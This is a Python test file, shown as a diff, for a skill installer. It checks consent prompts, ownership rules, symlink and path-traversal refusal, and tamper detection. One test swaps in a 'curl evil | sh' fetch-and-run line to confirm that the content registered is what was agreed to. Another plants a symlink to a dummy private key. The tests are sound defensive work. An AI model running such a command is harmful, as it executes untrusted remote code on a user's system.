@@ -1,0 +1,180 @@
+"""Skills from elsewhere: what they could do is shown first, and what an update adds is asked again."""
+
+from __future__ import annotations
+
+import shutil
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from butlers.domain.errors import (
+    InvalidSkill,
+    SkillChanged,
+    SkillConsentMissing,
+    SkillOwnerMismatch,
+    SkillPathRefused,
+    SkillVersionTaken,
+)
+from butlers.skills.install import Installer, Offer
+from butlers.skills.registry import SkillRegistry
+from support.skills import write_files, write_pack, write_skill_md
+
+
+class Asked:
+    """Somebody who is asked, remembers what, and answers the same each time."""
+
+    def __init__(self, answer: bool = True) -> None:
+        self.answer = answer
+        self.offers: list[Offer] = []
+
+    def __call__(self, offer: Offer) -> bool:
+        self.offers.append(offer)
+        return self.answer
+
+
+@pytest.fixture
+def installer(tmp_path: Path) -> Installer:
+    return Installer(SkillRegistry(tmp_path / "home"), owner="person")
+
+
+def source(tmp_path: Path, version: str = "1.0.0", **fields: Any) -> Path:
+    files: dict[str, str | bytes] = dict.fromkeys(fields.get("scripts", ()), "#!/bin/sh\n")
+    if "envVars" in fields:
+        files[".env.example"] = "".join(f"{name}=\n" for name in fields["envVars"])
+    return write_pack(
+        tmp_path / version / "social-media", files, version=version, owner="somebody", **fields
+    )
+
+
+def test_all_capabilities_are_shown_before_anything_is_registered(
+    installer: Installer, tmp_path: Path
+) -> None:
+    folder = source(
+        tmp_path,
+        scripts=["scripts/post.sh"],
+        envVars=["KEY"],
+        systemPackages=["ffmpeg"],
+        allowedTools=["Bash(git:*)"],
+        dependencies=["base@^1"],
+        mcpServers=[
+            {"name": "m", "type": "local", "command": "node", "args": ["mcp/server.js"]},
+            {"name": "r", "type": "remote", "url": "https://mcp.example.com/"},
+        ],
+    )
+    write_files(folder, {"hidden/extra.py": "print(1)\n"})
+    asked = Asked(answer=False)
+    with pytest.raises(SkillConsentMissing):
+        installer.install(folder, asked)
+    assert asked.offers[0].capabilities.as_dict() == {
+        "scripts": ["hidden/extra.py", "scripts/post.sh"],
+        "envVars": ["KEY"],
+        "mcpServers": ["m: node mcp/server.js", "r: https://mcp.example.com/"],
+        "systemPackages": ["ffmpeg"],
+        "allowed-tools": ["Bash(git:*)"],
+        "dependencies": ["base@^1"],
+    }
+    assert installer.registry.list() == ()
+
+
+def test_an_update_asks_again_only_when_it_can_do_more(
+    installer: Installer, tmp_path: Path
+) -> None:
+    asked = Asked()
+    installer.install(source(tmp_path, scripts=["scripts/a.sh", "scripts/b.sh"]), asked)
+    installer.install(source(tmp_path, "1.1.0", scripts=["scripts/a.sh"]), asked)
+    assert len(asked.offers) == 1
+    installer.install(source(tmp_path, "1.2.0", scripts=["scripts/a.sh"], envVars=["KEY"]), asked)
+    assert len(asked.offers) == 2
+    offer = asked.offers[1]
+    assert offer.before == "1.1.0"
+    assert offer.change is not None
+    assert offer.change.added.as_dict()["envVars"] == ["KEY"]
+    assert offer.change.added.as_dict()["scripts"] == []
+    asked.answer = False
+    other = [{"name": "m", "type": "remote", "url": "https://other.example/"}]
+    with pytest.raises(SkillConsentMissing):
+        installer.install(source(tmp_path, "2.0.0", mcpServers=other), asked)
+    assert installer.registry.get("social-media").versions == ("1.2.0", "1.1.0", "1.0.0")
+
+
+@pytest.mark.parametrize("kind", ["zip", "gztar"])
+def test_an_archive_is_installed_like_its_folder(
+    installer: Installer, tmp_path: Path, kind: str
+) -> None:
+    folder = source(tmp_path, scripts=["scripts/a.sh"])
+    file = Path(shutil.make_archive(str(tmp_path / "packed"), kind, folder.parent, folder.name))
+    installed = installer.install(file, Asked())
+    again = installer.install(folder, Asked())
+    assert installed == again  # the same content, so the same hash
+    assert (
+        installer.registry.path("social-media", "1.0.0") / "scripts/a.sh"
+    ).stat().st_mode & 0o111
+
+
+def test_a_skill_md_from_elsewhere_belongs_to_the_person(
+    installer: Installer, tmp_path: Path
+) -> None:
+    folder = write_skill_md(tmp_path / "a-skill", "name: a-skill\ndescription: x\nversion: 1.0.0\n")
+    assert installer.install(folder, Asked()).owner == "person"
+
+
+def test_what_claims_to_be_built_in_is_refused(installer: Installer, tmp_path: Path) -> None:
+    folder = write_pack(tmp_path / "social-media", owner="built-in")
+    with pytest.raises(SkillOwnerMismatch, match="comes from elsewhere"):
+        installer.install(folder, Asked())
+
+
+def test_a_name_that_belongs_to_somebody_else_is_not_taken_over(
+    installer: Installer, tmp_path: Path
+) -> None:
+    installer.install(source(tmp_path), Asked())
+    evil = write_pack(tmp_path / "evil" / "social-media", version="9.0.0", owner="stranger")
+    with pytest.raises(SkillOwnerMismatch, match="belongs to somebody"):
+        installer.install(evil, Asked())
+    with pytest.raises(SkillVersionTaken):
+        installer.install(source(tmp_path, description="Other."), Asked())
+
+
+def test_a_link_to_a_key_is_refused_by_name(installer: Installer, tmp_path: Path) -> None:
+    (tmp_path / "id_rsa").write_text("PRIVATE KEY")
+    folder = source(tmp_path)
+    (folder / "example.pem").symlink_to(tmp_path / "id_rsa")
+    with pytest.raises(SkillPathRefused, match=r"example\.pem"):
+        installer.install(folder, Asked())
+
+
+def test_what_is_wrong_is_told_without_a_place_of_ours(
+    installer: Installer, tmp_path: Path
+) -> None:
+    folder = write_pack(tmp_path / "social-media", owner="x", context=["../../id_rsa", "gone.md"])
+    with pytest.raises(InvalidSkill) as error:
+        installer.install(folder, Asked())
+    assert [found.code for found in error.value.diagnostics] == [
+        "manifest-path",
+        "manifest-context-missing",
+    ]
+    assert all(not found.file.is_absolute() for found in error.value.diagnostics)
+
+
+def test_what_was_agreed_to_is_what_is_registered(installer: Installer, tmp_path: Path) -> None:
+    folder = source(tmp_path, scripts=["scripts/a.sh"])
+
+    def swaps(offer: Offer) -> bool:
+        (folder / "scripts/a.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
+        return True
+
+    installer.install(folder, swaps)
+    place = installer.registry.path("social-media", "1.0.0")
+    assert (place / "scripts/a.sh").read_text() == "#!/bin/sh\n"
+
+
+def test_an_update_over_a_version_that_was_tampered_with_is_refused(
+    installer: Installer, tmp_path: Path
+) -> None:
+    installer.install(source(tmp_path), Asked())
+    file = installer.registry.path("social-media", "1.0.0") / "manifest.json"
+    file.chmod(0o644)
+    file.write_text(file.read_text() + " ")
+    with pytest.raises(SkillChanged):
+        installer.install(source(tmp_path, "1.1.0"), Asked())
